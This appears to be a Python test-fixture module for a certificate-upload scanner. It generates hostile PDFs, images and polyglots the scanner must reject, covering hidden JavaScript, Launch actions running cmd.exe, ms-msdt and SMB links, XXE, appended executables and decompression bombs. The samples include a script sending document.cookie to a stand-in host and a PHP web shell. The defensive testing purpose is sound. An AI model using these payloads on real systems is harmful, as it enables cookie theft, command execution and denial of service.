"""Files that inspection must refuse, built anew: none of them lies in the repository.

Run as a program with a folder, it writes them there, so that any other scanner can be tried too.
"""

import io
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from certfolio.domain.files import RejectionReason
from tests.unit.inspection.builders import (
    XMP,
    chunk,
    film,
    flate,
    noted,
    pdf,
    photo,
    picture,
    png,
    samsung,
    stream,
    updated,
    with_object_stream,
)
from tests.unit.inspection.worst import zeros

CERTIFICATE = Path(__file__).parent / "certificate.pdf"
HEIC = Path(__file__).parent / "certificate.heic"
PHOTO, PICTURE = photo(), picture()
WEBP, TIFF = picture("RGB", "WEBP"), picture("RGB", "TIFF")
PAGE = b"<html><body><script>fetch('https://a.example/'+document.cookie)</script></body></html>"
SERVER = b"<?php system($_GET['c']); ?>"
WINDOWS = (
    b"MZ\x90\0"
    + bytes(60)
    + b"This program cannot be run in DOS mode.\r\n"
    + b"PE\0\0"
    + bytes(200)
)
LINUX = b"\x7fELF\2\1\1" + bytes(200)
UNKNOWN = bytes(value * 73 % 251 + 1 for value in range(60_000))

Change = Callable[[pikepdf.Pdf], None]


def script(text: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(text))


def hurt(change: Change, **options: object) -> bytes:
    """A certificate as people hand it in, with something added."""
    output = io.BytesIO()
    with pikepdf.open(CERTIFICATE) as document:
        change(document)
        document.save(output, **options)
    return output.getvalue()


def on_opening(action: Dictionary) -> bytes:
    return hurt(lambda document: setattr(document.Root, "OpenAction", action))


def on_page(**entries: object) -> bytes:
    """With one more annotation on the first page."""

    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=[0, 0, 99, 99], **entries)
        page = document.pages[0].obj
        page.Annots = Array([*page.get("/Annots", []), document.make_indirect(note)])

    return hurt(change)


def linked(target: str) -> bytes:
    return on_page(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(target)))


def clicked(action: str, **entries: object) -> bytes:
    return on_page(Subtype=Name.Link, A=Dictionary(S=Name(action), **entries))


def catalog(**entries: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            document.Root[Name("/" + key)] = value

    return hurt(change)


def field(**entries: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        item = document.make_indirect(
            Dictionary(FT=Name.Tx, T="a", Subtype=Name.Widget, Rect=[0, 0, 9, 9], **entries)
        )
        document.Root.AcroForm = Dictionary(Fields=[item])

    return hurt(change)


def attached(document: pikepdf.Pdf) -> None:
    document.attachments["invoice.exe"] = WINDOWS


def behind_the_pages(document: pikepdf.Pdf) -> None:
    document.trailer.AdditionalStreams = Array(
        [Name("/application/vnd.oasis.opendocument.text"), document.make_stream(b"PK")]
    )


def locked(**options: object) -> bytes:
    return hurt(lambda _document: None, encryption=pikepdf.Encryption(owner="o", **options))


def zipped() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: A\n")
        archive.writestr("A.class", b"\xca\xfe\xba\xbe" + bytes(50))
    return output.getvalue()


def tarred() -> bytes:
    output = io.BytesIO()
    with tarfile.open(fileobj=output, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("%PDF-1.4"))
    return output.getvalue() + pdf()


def forms() -> bytes:
    """Ten forms, each of which draws the next ten times: ten thousand million squares."""
    levels = [
        stream(
            b"/F Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>"
            % (number + 1),
        )
        for number in range(5, 15)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return pdf(
        *levels,
        last,
        content=stream(b"/F Do"),
        page=b"/Resources<</XObject<</F 5 0 R>>>>",
    )


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
SHARE = "\\\\host.example\\share\\a"

ACTIVE = {
    "script-on-opening": lambda: on_opening(script()),
    "script-in-the-names": lambda: catalog(
        Names=Dictionary(JavaScript=Dictionary(Names=[String("a"), script()]))
    ),
    "script-before-closing": lambda: catalog(AA=Dictionary(WC=script())),
    "script-before-printing": lambda: catalog(AA=Dictionary(WP=script())),
    "script-on-a-page": lambda: hurt(
        lambda document: setattr(document.pages[0].obj, "AA", Dictionary(O=script()))
    ),
    "script-on-a-click": lambda: on_page(Subtype=Name.Link, A=script()),
    "script-under-the-mouse": lambda: on_page(Subtype=Name.Square, AA=Dictionary(E=script())),
    "script-while-typing": lambda: field(AA=Dictionary(K=script())),
    "script-that-computes": lambda: field(AA=Dictionary(C=script())),
    "script-in-the-outline": lambda: catalog(
        Outlines=Dictionary(First=Dictionary(Title="a", A=script()))
    ),
    "script-after-a-view": lambda: on_opening(
        Dictionary(S=Name.GoTo, D=[0, Name.Fit], Next=script())
    ),
    "script-in-a-stream": lambda: pdf(b"<</S/JavaScript/JS 6 0 R>>", flate(b"app.alert(1)")),
    "script-in-escapes": lambda: pdf(
        b"<</#53/#4a#61vaScript/#4A#53(x)>>", catalog=b"/OpenAction 5 0 R"
    ),
    "script-in-an-object-stream": lambda: with_object_stream(SCRIPT),
    "script-outside-the-table": lambda: pdf(unlisted=[SCRIPT]),
    "script-in-a-stream-outside-the-table": lambda: with_object_stream(SCRIPT, listed=False),
    "script-in-an-earlier-revision": lambda: updated(pdf(SCRIPT), 5, b"null"),
    "script-in-a-later-revision": lambda: updated(
        pdf(), 1, b"<</Pages 2 0 R/OpenAction%b>>" % SCRIPT
    ),
    "script-behind-the-end": lambda: pdf() + b"99 0 obj\n" + SCRIPT + b"\nendobj\n",
    "script-beside-a-view": lambda: pdf(b"<</S/JavaScript/S/GoTo/JS(x)>>"),
    "script-in-a-broken-object": lambda: pdf(b"<</S/JavaScript/JS(x)/A[)>>"),
    "script-in-a-second-trailer": lambda: pdf() + b"trailer<</Root<</OpenAction%b>>>>" % SCRIPT,
    "script-behind-a-remark": lambda: pdf(unlisted=[b"1 endobj\n7 %a\n0 %b\nobj" + SCRIPT]),
    "script-for-the-owner": lambda: hurt(
        lambda document: setattr(document.Root, "OpenAction", script()),
        encryption=pikepdf.Encryption(owner="o", user="", R=6),
    ),
    "program-of-windows": lambda: on_opening(
        Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c calc"))
    ),
    "program-of-unix": lambda: clicked("/Launch", F="/usr/bin/xterm"),
    "program-on-a-page": lambda: hurt(
        lambda document: setattr(
            document.pages[0].obj, "AA", Dictionary(O=Dictionary(S=Name.Launch, F="a.exe"))
        )
    ),
    "form-sent-off": lambda: clicked("/SubmitForm", F="https://a.example"),
    "form-filled-from-a-file": lambda: clicked("/ImportData", F="a.fdf"),
    "attached-document-opened": lambda: clicked("/GoToE", T=Dictionary(R=Name.C)),
    "share-opened-by-itself": lambda: hurt(
        lambda document: setattr(
            document.pages[0].obj,
            "AA",
            Dictionary(O=Dictionary(S=Name.GoToE, F=String(SHARE), D=[0, Name.Fit])),
        )
    ),
    "share-on-a-click": lambda: clicked("/GoToR", F=String(SHARE), D=[0, Name.Fit]),
    "share-in-a-file-specification": lambda: clicked(
        "/GoToR", F=Dictionary(Type=Name.Filespec, F=String("//host/a.pdf")), D=[0, Name.Fit]
    ),
    "web-page-by-itself": lambda: on_opening(
        Dictionary(S=Name.URI, URI=String("https://a.example/seen"))
    ),
    "printing-by-itself": lambda: on_opening(Dictionary(S=Name.Named, N=Name.Print)),
    "link-to-a-share": lambda: linked(SHARE),
    "link-to-a-host's-file": lambda: linked("file://host.example/share/a.docx"),
    "link-to-a-host's-file-by-slashes": lambda: linked("file:////host.example/share/a"),
    "link-to-a-program": lambda: linked("file:///C:/Windows/System32/calc.exe"),
    "link-with-a-script": lambda: linked("java\tscript:app.alert(1)"),
    "link-with-a-page": lambda: linked("data:text/html;base64,PHNjcmlwdD4="),
    "link-with-basic": lambda: linked("vbscript:msgbox(1)"),
    "link-to-a-troubleshooter": lambda: linked("ms-msdt:/id PCWDiagnostic /skip force"),
    "link-to-a-search": lambda: linked("search-ms:query=a&crumb=location:%5C%5Chost%5Ca"),
    "link-to-samba": lambda: linked("smb://host.example/a"),
    "links-with-a-script-as-base": lambda: catalog(URI=Dictionary(Base=String("javascript:"))),
    "film": lambda: on_page(Subtype=Name.Movie, Movie=Dictionary(F="a.avi")),
    "sound": lambda: on_page(Subtype=Name.Sound),
    "screen": lambda: on_page(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition)),
    "flash": lambda: on_page(Subtype=Name.RichMedia),
    "space": lambda: on_page(Subtype=Name("/3D")),
    "form-in-xml": lambda: hurt(
        lambda document: setattr(
            document.Root,
            "AcroForm",
            Dictionary(Fields=[], XFA=document.make_stream(b"<xdp:xdp><script/></xdp:xdp>")),
        )
    ),
    "form-made-while-opening": lambda: catalog(NeedsRendering=True),
    "data-from-a-server": lambda: pdf(stream(b"", b"/F<</FS/URL/F(https://a.example/x)>>")),
    "pages-of-another-file": lambda: pdf(
        stream(b"", b"/Subtype/Form/BBox[0 0 9 9]/Ref<</F(a.pdf)/Page 0>>")
    ),
    "finer-picture-from-elsewhere": lambda: pdf(
        stream(b"", b"/Subtype/Form/BBox[0 0 9 9]/OPI<</1.3<</Type/OPI/F(/etc/passwd)>>>>")
    ),
    "text-with-a-picture-from-a-server": lambda: field(
        RV=String("<body><img src='https://a.example/x.jpg'/></body>")
    ),
    "code-in-a-font's-matrix": lambda: pdf(
        b"<</Type/Font/Subtype/Type1/BaseFont/A/FontMatrix[1 0 0 1 0(1\\);alert\\(1)]>>"
    ),
    "code-in-a-font": lambda: pdf(
        flate(b"%!PS-AdobeFont-1.0\n/FontMatrix [1 0 0 1 0 (1\\);alert\\(1)] def", b"/Length1 9")
    ),
    "code-in-a-calculation": lambda: pdf(
        stream(b'{ fetch("https://a.example") }', b"/FunctionType 4/Domain[0 1]/Range[0 1]")
    ),
    "entity-in-the-metadata": lambda: pdf(
        stream(
            b'<!DOCTYPE a [<!ENTITY b SYSTEM "https://a.example">]><x>&b;</x>',
            b"/Type/Metadata/Subtype/XML",
        ),
        catalog=b"/Metadata 5 0 R",
    ),
    "page-in-an-author's-name": lambda: on_page(
        Subtype=Name.Text, T=String("<img src=https://a.example/x onerror=alert(1)>")
    ),
    "postscript": lambda: pdf(stream(b"(r) run", b"/Type/XObject/Subtype/PS")),
}
EMBEDDED = {
    "program-attached": lambda: hurt(attached),
    "program-attached-for-the-owner": lambda: hurt(
        attached, encryption=pikepdf.Encryption(owner="o", user="", R=6)
    ),
    "file-pinned-to-a-page": lambda: on_page(
        Subtype=Name.FileAttachment, FS=Dictionary(F="a.exe", EF=Dictionary())
    ),
    "portfolio": lambda: catalog(Collection=Dictionary(View=Name.D)),
    "document-behind-the-pages": lambda: hurt(behind_the_pages),
    "file-nothing-refers-to": lambda: pdf(stream(WINDOWS, b"/Type/Embedded#46ile")),
}
MISMATCH = {
    "program-of-windows.pdf": lambda: WINDOWS,
    "program-before-a-document": lambda: WINDOWS + pdf(),
    "script-of-a-shell-before-a-document": lambda: b"#!/bin/sh\nexit\n" + pdf(),
    "script-before-a-document": lambda: b"/*" + pdf() + b"*/alert(1)",
    "server's-script-before-a-document": lambda: SERVER + pdf(),
    "animation-before-a-document": lambda: b"GIF89a" + bytes(20) + pdf(),
    "page-before-a-document": lambda: PAGE + pdf(),
    "page-behind-a-document": lambda: CERTIFICATE.read_bytes() + PAGE,
    "page-in-a-document": lambda: pdf(unlisted=[b"1\nendobj\n" + PAGE]),
    "page-in-a-remark": lambda: pdf(header=b"%PDF-1.7\n%" + PAGE + b"\n"),
    "server's-script-behind-a-document": lambda: CERTIFICATE.read_bytes() + SERVER,
    "program-behind-a-document": lambda: CERTIFICATE.read_bytes() + WINDOWS,
    "program-of-linux-behind-a-document": lambda: CERTIFICATE.read_bytes() + LINUX,
    "archive-behind-a-document": lambda: CERTIFICATE.read_bytes() + zipped(),
    "archive-in-a-document": lambda: pdf(stream(zipped())),
    "archive-with-a-remark": lambda: CERTIFICATE.read_bytes() + zipped() + b"\n%%EOF\n",
    "rar-behind-a-document": lambda: CERTIFICATE.read_bytes() + b"Rar!\x1a\x07\1\0" + bytes(50),
    "7z-behind-a-document": lambda: CERTIFICATE.read_bytes() + b"7z\xbc\xaf\x27\x1c" + bytes(50),
    "tape-around-a-document": tarred,
    "disk-around-a-document": lambda: pdf(
        stream(bytes(0x8001 - 15) + b"CD001\1" * 500, b"/A 1")
    ).replace(b"%PDF-1.7\n", b"%PDF-1.7\n" + b" " * 9),
    "office-document.pdf": zipped,
    "page.pdf": lambda: PAGE,
    "drawing.png": lambda: (
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    ),
    "document-in-a-photo": lambda: noted(PHOTO, pdf(), 0xFE),
    "document-behind-a-photo": lambda: PHOTO + pdf(),
    "document-in-a-picture": lambda: png(before=chunk(b"tEXt", b"a\0" + pdf())),
    "server's-script-in-a-photo": lambda: noted(PHOTO, SERVER, 0xFE),
    "server's-script-in-exif": lambda: noted(PHOTO, b"Exif\0\0" + SERVER),
    "server's-script-in-a-picture": lambda: png(before=chunk(b"tEXt", b"Comment\0" + SERVER)),
    "page-in-a-compressed-text": lambda: png(
        before=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(PAGE))
    ),
    "page-behind-a-photo": lambda: PHOTO + PAGE,
    "archive-behind-a-photo": lambda: PHOTO + zipped(),
    "program-behind-a-photo": lambda: PHOTO + WINDOWS,
    "program-before-a-false-trailer": lambda: (
        PHOTO + UNKNOWN + samsung((0x0A01, b"Image_UTC_Data", b"1"))
    ),
    "program-before-a-false-watermark": lambda: PHOTO + UNKNOWN + b"wtmk[]jxrs\x0a\0\0\0",
    "program-as-a-depth": lambda: PHOTO + samsung((0x0AB1, b"DualShot_DepthMap_1", WINDOWS * 20)),
    "program-as-settings": lambda: PHOTO + b'{"a":1}' + UNKNOWN + b"wtmk",
    "program-in-a-true-trailer": lambda: PHOTO + samsung((0x0A01, b"Image_UTC_Data", UNKNOWN)),
    "program-behind-a-film": lambda: noted(PHOTO, XMP) + film() + UNKNOWN,
    "program-in-place-of-a-film": lambda: noted(PHOTO, XMP) + film()[:24] + UNKNOWN,
    "program-behind-a-second-photo": lambda: PHOTO + PHOTO + UNKNOWN,
    "archive-behind-a-picture": lambda: PICTURE + zipped(),
    "program-behind-a-picture": lambda: PICTURE + UNKNOWN,
    "archive-behind-a-tiff": lambda: TIFF + zipped(),
    "program-behind-a-tiff": lambda: TIFF + WINDOWS,
    "archive-behind-a-webp": lambda: WEBP + zipped(),
    "program-behind-a-webp": lambda: WEBP + UNKNOWN,
    "program-behind-a-heic": lambda: HEIC.read_bytes() + UNKNOWN,
    "page-in-a-heic": lambda: HEIC.read_bytes() + len(PAGE + bytes(8)).to_bytes(4) + b"free" + PAGE,
}
COMPLEX = {
    "bomb": lambda: pdf(content=stream(zeros(4_000_000_000), b"/Filter/FlateDecode")),
    "bomb-in-a-bomb": lambda: pdf(
        content=stream(zlib.compress(zeros(4_000_000_000), 9), b"/Filter[/FlateDecode/FlateDecode]")
    ),
    "bomb-in-the-metadata": lambda: pdf(
        stream(zeros(4_000_000_000), b"/Type/Metadata/Subtype/XML/Filter/FlateDecode"),
        catalog=b"/Metadata 5 0 R",
    ),
    "bomb-that-says-it-is-a-picture": lambda: pdf(
        stream(zeros(4_000_000_000), b"/Subtype/Image/Width 1/Height 1/Filter/FlateDecode")
    ),
    "bomb-of-runs": lambda: pdf(
        content=stream(
            zlib.compress(b"\x81a" * 3_000_000), b"/Filter[/FlateDecode/RunLengthDecode]"
        )
    ),
    "many-filters": lambda: pdf(content=stream(b"", b"/Filter[%b]" % (b"/FlateDecode" * 30))),
    "pages-in-a-circle": lambda: pdf(kids=b"3 0 R 2 0 R"),
    "outline-in-a-circle": lambda: pdf(
        b"<</First 6 0 R>>", b"<</Title(a)/Next 6 0 R>>", catalog=b"/Outlines 5 0 R"
    ),
    "many-objects": lambda: pdf(*[b"0"] * 100_001),
    "picture-of-a-bomb": lambda: png(data=zeros(4_000_000_000)),
    "text-of-a-bomb": lambda: png(before=chunk(b"zTXt", b"a\0\0" + zeros(4_000_000_000))),
    "profile-of-a-bomb": lambda: png(before=chunk(b"iCCP", b"a\0\0" + zeros(4_000_000_000))),
}
PIXELS = {
    "picture-too-large": lambda: png(60_000, 60_000, data=b""),
    "photo-too-large": lambda: PHOTO.replace(b"\x00\x30\x00\x40", b"\xff\xff\xff\xff"),
    "webp-too-large": lambda: (
        b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\x3f\0\xff\x3f\0" + bytes(4)
    ),
    "tiff-too-large": lambda: (
        picture("L", "TIFF").replace(b"\x40\0\0\0", b"\0\0\1\0").replace(b"\x30\0\0\0", b"\0\0\1\0")
    ),
    "picture-in-a-document-too-large": lambda: pdf(
        stream(b"", b"/Subtype/Image/Width 60000/Height 60000/Filter/JBIG2Decode")
    ),
}
PAGES = {"many-pages": lambda: pdf().replace(b"/Count 1", b"/Count 1000000")}
ENCRYPTED = {
    "password": lambda: locked(user="secret", R=6),
    "password-of-old": lambda: locked(user="secret", R=3, aes=False, metadata=False),
    "locked-by-a-certificate": lambda: pdf(
        trailer=b"/Encrypt<</Filter/Adobe.PubSec/V 4/SubFilter/adbe.pkcs7.s5/R 4>>/ID[<00><00>]"
    ),
}
DAMAGED = {
    "half-a-photo": lambda: photo(size=(640, 480))[:4_000],
    "half-a-picture": lambda: PICTURE[: len(PICTURE) // 2],
    "half-a-webp": lambda: WEBP[: len(WEBP) // 2],
    "half-a-heic": lambda: HEIC.read_bytes()[:9_000],
    "document-without-pages": lambda: pdf(kids=b""),
}

HOSTILE: dict[str, tuple[RejectionReason, Callable[[], bytes]]] = {
    name: (reason, build)
    for reason, builders in (
        (RejectionReason.ACTIVE_CONTENT, ACTIVE),
        (RejectionReason.EMBEDDED_FILE, EMBEDDED),
        (RejectionReason.CONTENT_MISMATCH, MISMATCH),
        (RejectionReason.TOO_COMPLEX, COMPLEX | {"forms-that-draw-themselves": forms}),
        (RejectionReason.TOO_MANY_PIXELS, PIXELS),
        (RejectionReason.TOO_MANY_PAGES, PAGES),
        (RejectionReason.ENCRYPTED, ENCRYPTED),
        (RejectionReason.DAMAGED, DAMAGED),
    )
    for name, build in builders.items()
}
#: Only an end from outside ends these, so they are tried in confinement alone.
ENDLESS = {"forms-that-draw-themselves"}


def main() -> None:
    """Write all of them into a folder."""
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, (_, build) in HOSTILE.items():
        (folder / name).write_bytes(build())


if __name__ == "__main__":
    main()
